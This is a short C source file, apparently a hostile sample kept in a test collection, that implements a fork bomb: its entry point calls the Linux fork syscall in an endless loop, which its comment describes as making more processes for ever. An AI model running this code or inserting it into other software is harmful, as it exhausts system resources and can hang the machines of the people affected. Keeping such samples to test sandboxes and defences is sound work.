// A fork bomb: every process makes more of itself, for ever.
#include "../../hostile/lines.h"
#include "../linux.h"

void _start(void) {
  for (;;) linux_call(SYS_FORK, 0, 0, 0, 0, 0, 0);
}
